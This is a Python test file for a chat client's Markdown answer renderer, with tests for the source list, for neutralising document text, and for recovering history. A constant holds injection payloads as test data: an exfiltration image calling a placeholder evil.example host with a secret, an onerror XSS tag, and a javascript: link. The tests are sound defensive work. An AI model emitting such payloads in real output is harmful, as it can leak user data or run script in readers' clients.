"""The Markdown reply chat clients get: sources listed, document text inert, history recoverable."""

from __future__ import annotations

import re

from rag.core.types import Answer, Citation, SourceRef
from ui.markdown import answer_markdown, inert, strip_sources

HOSTILE = '![pixel](http://evil.example/p.png?q=secret) <img src=x onerror="alert(1)"> [site](javascript:alert(1))'


def _answer(**overrides: object) -> Answer:
    ref = SourceRef("c2", "Copy", "Fox News", "2024-01-30", "fox.txt")
    cited = Citation(1, f"Title {HOSTILE}", "The Associated Press", "2024-01-30", "ap.txt", "c1", "quote", (ref,))
    fields = {"text": f"Daskal led it [1]. {HOSTILE}", "citations": [cited], "abstained": False, "mode": "extractive"}
    return Answer(**{**fields, **overrides})  # type: ignore[arg-type]


def _live(markdown: str) -> list[str]:
    """Markdown images, links and HTML tags a client would render."""
    return re.findall(r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)<[a-z]", markdown)


def test_reply_lists_sources_with_every_outlet() -> None:
    reply = answer_markdown(_answer())
    text, sources = reply.split("\n\n**Sources**\n")
    assert text.startswith("Daskal led it [1].")
    assert sources.startswith("- [1] *Title") and "The Associated Press, 2024-01-30 (ap.txt)" in sources
    assert sources.endswith("also reported by Fox News")


def test_document_text_cannot_become_markup_in_a_client() -> None:
    reply = answer_markdown(_answer(notice=HOSTILE))
    assert _live(HOSTILE) and not _live(reply), reply


def test_the_history_gets_the_answer_back_without_its_sources() -> None:
    for answer in (_answer(), _answer(notice="Model server failed."), _answer(abstained=True), _answer(citations=[])):
        assert strip_sources(answer_markdown(answer)) == inert(answer.text)
    assert strip_sources("a user's own text\n\nwith paragraphs") == "a user's own text\n\nwith paragraphs"
